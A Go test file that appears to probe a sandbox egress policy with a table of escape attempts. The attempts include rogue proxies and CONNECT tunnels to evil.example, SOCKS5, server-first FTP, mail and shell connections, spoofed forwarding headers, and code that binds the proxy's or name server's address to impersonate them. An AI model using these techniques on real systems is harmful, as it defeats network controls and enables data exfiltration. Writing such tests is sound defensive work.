package main

import (
	"context"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"

	"glasshouse/policy/egress"
	"glasshouse/policy/egress/egresstest"
)

func copyLimited(w io.Writer, r io.Reader) (int64, error) {
	return io.Copy(w, io.LimitReader(r, 1<<16))
}

// proxies returns attempts that misuse the proxy or use protocols that it does not forward.
func proxies() []Attempt {
	const gateway = egresstest.Gateway
	silent := func(port string) func() (string, error) {
		return func() (string, error) { return talk("tcp", evil+":"+port, 20*time.Second) }
	}
	return []Attempt{
		{Name: "another proxy in the environment", Reasons: reasons(egress.ReasonHost, egress.ReasonMismatch), Host: "evil.example", try: func() (string, error) {
			proxy, err := url.Parse("http://" + evil + ":3128")
			if err != nil {
				return "", err
			}
			r, err := http.NewRequest("GET", "http://evil.example/", nil)
			if err != nil {
				return "", err
			}
			return do(&http.Transport{Proxy: http.ProxyURL(proxy)}, r)
		}},
		{Name: "another proxy by CONNECT", Reasons: reasons(egress.ReasonProtocol), try: say("tcp", evil+":3128", connect("evil.example:443"))},
		{Name: "SOCKS5 at its own port", Reasons: reasons(egress.ReasonHost), Host: gateway, Port: 1080, try: say("tcp", gateway+":1080", "\x05\x01\x00")},
		{Name: "a port of IRC by CONNECT", Reasons: reasons(egress.ReasonPort), Port: 6667, try: say("tcp", egresstest.Proxy, connect("api.example.com:6667"))},
		{Name: "FTP by CONNECT", Reasons: reasons(egress.ReasonHost), Port: 21, try: say("tcp", egresstest.Proxy, connect("evil.example:21"))},
		{Name: "FTP, where the server speaks first", Reasons: reasons(egress.ReasonName, egress.ReasonClient), Host: evil, Port: 21, Slow: true, try: silent("21")},
		{Name: "mail, where the server speaks first", Reasons: reasons(egress.ReasonName, egress.ReasonClient), Host: evil, Port: 25, Slow: true, try: silent("25")},
		{Name: "a shell, where the server speaks first", Reasons: reasons(egress.ReasonName, egress.ReasonClient), Host: evil, Port: 2222, Slow: true, try: silent("2222")},
		{Name: "HTTP/0.9", Reasons: reasons(egress.ReasonHost, egress.ReasonProtocol), try: say("tcp", egresstest.Front+":80", "GET /leak\r\n")},
		{Name: "a WebSocket to a host that is not allowed", Reasons: reasons(egress.ReasonHost), Host: "evil.example",
			try: say("tcp", evil+":80", "GET / HTTP/1.1\r\nHost: evil.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: bGVha2xlYWtsZWFrbGVhaw==\r\n\r\n")},
		{Name: "fields that name another host", Forwarded: "198.51.100.20:80",
			try: say("tcp", "198.51.100.20:80", strings.Replace(get("fields.example.com"), "\r\n\r\n", "\r\nX-Forwarded-Host: evil.example\r\nX-Original-URL: /closed\r\nX-HTTP-Method-Override: DELETE\r\nForwarded: host=evil.example\r\nX-Host: evil.example\r\n\r\n", 1))},
		{Name: "a program that plays the proxy", Reasons: reasons(egress.ReasonHost), Host: "evil.example", try: playProxy},
		{Name: "a program that plays the name server", Reasons: reasons(egress.ReasonHost), Host: "evil.example", try: playNames},
	}
}

// nonlocal lets a socket bind an address that is not the jail's (IP_FREEBIND or IP_TRANSPARENT,
// ip(7)).
var nonlocal = net.ListenConfig{Control: func(_, _ string, c syscall.RawConn) error {
	return c.Control(func(fd uintptr) {
		unix.SetsockoptInt(int(fd), unix.SOL_IP, unix.IP_FREEBIND, 1)
		unix.SetsockoptInt(int(fd), unix.SOL_IP, unix.IP_TRANSPARENT, 1)
		unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_REUSEPORT, 1)
	})
}}

// playProxy listens on the proxy's address, and sends requests there.
func playProxy() (string, error) {
	for _, at := range []string{egresstest.Proxy, "0.0.0.0:" + egresstest.ProxyPort, egresstest.Gateway + ":80", "0.0.0.0:3129"} {
		l, err := nonlocal.Listen(context.Background(), "tcp4", at)
		if err != nil {
			continue // binding may be denied
		}
		defer l.Close()
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				io.WriteString(c, egresstest.Reached+"who plays the proxy")
				c.Close()
			}
		}()
	}
	return talk("tcp", egresstest.Proxy, patience, "GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n")
}

// playNames answers on the name server's address, and sends queries there.
func playNames() (string, error) {
	for _, at := range []string{egresstest.Gateway + ":53", "0.0.0.0:53"} {
		c, err := nonlocal.ListenPacket(context.Background(), "udp4", at)
		if err != nil {
			continue
		}
		defer c.Close()
		go func() {
			b := make([]byte, 1500)
			for {
				_, from, err := c.ReadFrom(b)
				if err != nil {
					return
				}
				c.WriteTo([]byte(egresstest.Reached+"who plays the name server"), from)
			}
		}()
	}
	c, err := dial("udp", egresstest.Gateway+":53")
	if err != nil {
		return "", err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(patience))
	if _, err := io.WriteString(c, question("evil.example.")); err != nil {
		return "", err
	}
	b := make([]byte, 1500)
	n, err := c.Read(b)
	return string(b[:n]), err
}
